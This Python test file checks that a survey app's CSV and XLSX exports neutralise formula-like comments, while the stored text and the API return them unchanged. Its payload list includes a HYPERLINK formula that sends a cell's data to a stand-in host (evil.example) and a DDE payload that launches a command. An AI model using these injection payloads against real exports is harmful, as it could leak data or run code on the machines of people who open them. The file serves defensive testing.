"""An anonymous survey comment that starts like a formula cannot run in an export (issue 16,
finding 3): the respondent submits it through the survey link; the centre director exports
the responses, the records and the dashboard as CSV and XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from serviq.web.org.models import Person, Team
from serviq.web.surveys import actions
from serviq.web.surveys.models import PublishedQuestionnaire, SurveyResponse

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "＝1+1",
    "＠SUM(1+1)",
]


@pytest.fixture
def submitted(client) -> list[str]:
    q = PublishedQuestionnaire.objects.get(code="TEST")
    made = actions.do_create_links(
        q,
        [
            {"team": Team.objects.get(code="T1"), "agent": Person.objects.get(code="A001")}
            for _ in PAYLOADS
        ],
    )
    for m, payload in zip(made, PAYLOADS, strict=True):
        r = client.post(
            f"/s/{m.token}/",
            {"REL1": "4", "RES1": "5", "CSAT": "4", "NPS": "9", "COMMENT": payload},
        )
        assert r.status_code in (200, 302)
    stored = list(SurveyResponse.objects.order_by("-id")[: len(PAYLOADS)])
    return [s.comment for s in reversed(stored)]


def test_the_comments_are_stored_as_typed(submitted) -> None:
    assert submitted == PAYLOADS  # stored as text; only the exports neutralise them


@pytest.mark.parametrize("layout", ["data", "labels"])
def test_the_csv_export_prefixes_every_formula_like_comment(submitted, as_user, layout) -> None:
    r = as_user("centre").get("/records/responses/export.csv", {"layout": layout})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.getvalue().decode("utf-8-sig"))))
    comments = [row[-1] for row in rows[1:]]  # the comment is the last column in both layouts
    for payload in PAYLOADS:
        assert "'" + payload in comments
        assert payload not in comments


@pytest.mark.parametrize("layout", ["data", "labels"])
def test_the_xlsx_export_writes_them_as_strings(submitted, as_user, layout) -> None:
    r = as_user("centre").get("/records/responses/export.xlsx", {"layout": layout})
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in ws[1]]
    col = len(header)  # the comment is the last column in both layouts
    cells = {ws.cell(i, col).value: ws.cell(i, col) for i in range(2, ws.max_row + 1)}
    for payload in PAYLOADS:
        assert payload in cells
        assert cells[payload].data_type == "s"
        assert cells[payload].quotePrefix


def test_the_api_returns_the_text_unchanged(submitted, as_user) -> None:
    """JSON is not a spreadsheet: the API gives the comment as it was stored."""
    r = as_user("centre").get("/api/records/responses", {"limit": 1000})
    assert set(PAYLOADS) <= {row["comment"] for row in r.json()["rows"]}
